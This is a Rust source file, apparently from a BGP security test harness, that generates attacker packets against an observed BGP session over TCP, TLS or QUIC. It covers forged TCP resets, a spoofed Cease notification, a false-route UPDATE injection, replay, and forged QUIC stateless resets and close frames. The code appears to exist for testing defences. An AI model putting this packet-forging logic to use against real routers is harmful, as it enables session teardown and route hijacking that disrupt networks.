//! What the attacker sends.

use std::net::Ipv4Addr;

use anyhow::{Context, Result};
use holdfast_bgp_wire::{
    MAX_LEN, Origin, UpdateEncoder,
    edit::AttributesBuilder,
    notification::{CeaseSubcode, Notification},
};
use holdfast_types::{Asn, Ipv4Prefix};

use super::{
    Attack, Transport,
    attacker::Conversation,
    initial::Initial,
    packet::{Body, Packet, Tcp, flag},
};

/// Resets with numbers from all over their space.
const GUESSES: u32 = 256;
/// Resets with numbers in the window that are not the exact one.
const IN_WINDOW: u32 = 16;
/// The one that senders have who need no scaling; receivers of resets do not look at it.
const WINDOW: u16 = 500;
/// RFC 2385: kind and length, behind two octets that do nothing, and the digest.
const MD5_OPTION: [u8; 4] = [1, 1, 19, 18];
const DIGEST: usize = 16;
/// `application_data` and the version of all records (RFC 8446 section 5.2).
const RECORD: [u8; 3] = [23, 3, 3];
/// Octets of a tag of AES-GCM.
const TAG: usize = 16;
/// First octet and a connection id of any length (RFC 9000 section 17.3.1).
const SHORT_HEADER: usize = 1 + 20;
/// Sizes of datagrams that could be stateless resets (RFC 9000 section 10.3).
const RESETS: [usize; 4] = [21, 43, 100, 1200];

/// A route that nobody has announced.
#[derive(Copy, Clone, Debug)]
pub struct FalseRoute {
    /// Where it leads to.
    pub prefix: Ipv4Prefix,
    /// The neighbour that is said to have announced it, and is the next hop.
    pub asn: u32,
}

/// The packets of an attack on a conversation.
///
/// # Errors
/// Nothing has been heard of it, or not enough.
pub fn packets(
    attack: Attack,
    transport: Transport,
    heard: &Conversation,
    route: FalseRoute,
) -> Result<Vec<Packet>> {
    let (from, to) = heard.ends().context("nothing has been heard")?;
    if attack == Attack::Replay {
        return Ok(heard.sent.iter().cloned().collect());
    }
    let bodies = if transport.is_quic() {
        let datagrams = datagrams(attack, heard, route, *from.ip())?;
        datagrams.into_iter().map(Body::Udp).collect::<Vec<_>>()
    } else {
        let segments = segments(attack, transport, heard, route, *from.ip())?;
        let options = if transport.has_md5() { vec![Vec::new(), wrong_digest()] } else { vec![Vec::new()] };
        let with = |options: Vec<u8>| {
            segments.iter().map(move |tcp| Tcp { options: options.clone(), ..tcp.clone() })
        };
        options.into_iter().flat_map(with).map(Body::Tcp).collect()
    };
    Ok(bodies.into_iter().map(|body| Packet { from, to, body }).collect())
}

/// RFC 2385's option with a digest of somebody who does not know the key.
fn wrong_digest() -> Vec<u8> {
    [&MD5_OPTION[..], &[0x5a; DIGEST]].concat()
}

fn segments(
    attack: Attack,
    transport: Transport,
    heard: &Conversation,
    route: FalseRoute,
    next_hop: Ipv4Addr,
) -> Result<Vec<Tcp>> {
    let exact = heard.expected;
    let segment = |sequence, flags, payload| Tcp {
        sequence,
        acknowledgment: heard.expected_by_peer,
        flags: flags | flag::ACK,
        window: WINDOW,
        options: Vec::new(),
        payload,
    };
    let reset = |sequence| segment(sequence, flag::RST, Vec::new());
    let message = |octets: Vec<u8>| {
        let octets = if transport.has_tls() { record(&octets) } else { octets };
        segment(exact, flag::PSH, octets)
    };
    Ok(match attack {
        Attack::GuessedReset => {
            // None of them is the exact one: that would be 2^32 guesses.
            let apart = (1..GUESSES).map(|guess| exact.wrapping_add(guess * (u32::MAX / GUESSES)));
            let near = (1..=IN_WINDOW).map(|guess| exact.wrapping_add(guess));
            apart.chain(near).map(reset).collect()
        }
        Attack::ExactReset => vec![reset(exact)],
        Attack::Close => vec![message(notification())],
        Attack::Route => vec![message(update(route, next_hop)?)],
        Attack::Replay => Vec::new(),
    })
}

/// What looks like a record of a TLS connection with these octets in it.
fn record(octets: &[u8]) -> Vec<u8> {
    [&RECORD[..], &(octets.len() as u16).to_be_bytes(), octets].concat()
}

fn notification() -> Vec<u8> {
    Notification::cease(CeaseSubcode::AdministrativeShutdown).encode()
}

/// An UPDATE that is longer than what r2 says next: r1 takes that for octets which it has already.
fn update(route: FalseRoute, next_hop: Ipv4Addr) -> Result<Vec<u8>> {
    let mut attributes = AttributesBuilder::new(Origin::Igp);
    attributes.as_path = vec![Asn(route.asn)];
    attributes.next_hop = Some(next_hop);
    attributes.communities = (1..=250).collect();
    let mut out = Vec::new();
    UpdateEncoder::new(MAX_LEN).announce(&attributes.build(), [route.prefix], &mut out)?;
    Ok(out)
}

fn datagrams(
    attack: Attack,
    heard: &Conversation,
    route: FalseRoute,
    next_hop: Ipv4Addr,
) -> Result<Vec<Vec<u8>>> {
    let short = heard.short.as_deref().context("no packet with a short header was heard")?;
    let header = short.get(..SHORT_HEADER).context("a packet with a short header is longer")?;
    Ok(match attack {
        Attack::GuessedReset => {
            let guess =
                |seed| noise(&[0x40 | (seed as u8 & 0x3f)], RESETS[seed as usize % RESETS.len()], seed);
            (0..GUESSES).map(guess).collect()
        }
        Attack::ExactReset => {
            let seeds = (0..).zip(RESETS);
            let mut resets: Vec<_> = seeds.map(|(seed, size)| noise(header, size, seed)).collect();
            // One that has the start of a real packet, and another tag.
            let mut changed = short.to_vec();
            changed.iter_mut().rev().take(TAG).for_each(|octet| *octet ^= 0x5a);
            resets.push(changed);
            resets
        }
        Attack::Close => {
            let mut all = vec![[header, &[0; 4], &CONNECTION_CLOSE, &[0; 64]].concat()];
            for key in &heard.initial_ids {
                for destination in &heard.initial_ids {
                    let frames = &CONNECTION_CLOSE;
                    all.push(Initial { key, destination, frames, ..Initial::default() }.seal()?);
                }
            }
            all
        }
        // A STREAM frame with a length (section 19.8) on the one stream there is.
        Attack::Route => {
            let update = update(route, next_hop)?;
            let length = (update.len() as u16 | 0x4000).to_be_bytes();
            vec![[header, &[0; 4], &[0x0a, 0], &length, &update].concat()]
        }
        Attack::Replay => Vec::new(),
    })
}

/// RFC 9000 section 19.19: error 0, at no frame, without a reason.
const CONNECTION_CLOSE: [u8; 4] = [0x1c, 0, 0, 0];

/// A datagram that begins like this and goes on with what nobody can foresee, the same for the same seed.
fn noise(header: &[u8], size: usize, seed: u32) -> Vec<u8> {
    let mut state = u64::from(seed).wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let mut octets = header.to_vec();
    while octets.len() < size {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        octets.push((state >> 32) as u8);
    }
    // The token is at the end.
    octets.extend((0..TAG).map(|at| (state >> (at % 8 * 8)) as u8));
    octets
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn guesses_are_wrong_ones() -> Result<()> {
        let heard = Conversation { expected: 5, ..Conversation::default() };
        let route = FalseRoute { prefix: "192.0.2.0/24".parse()?, asn: 65002 };
        let all = segments(Attack::GuessedReset, Transport::Tcp, &heard, route, Ipv4Addr::LOCALHOST)?;
        assert_eq!(all.len() as u32, GUESSES - 1 + IN_WINDOW);
        assert!(all.iter().all(|tcp| tcp.sequence != heard.expected && tcp.flags & flag::RST != 0));
        Ok(())
    }
}
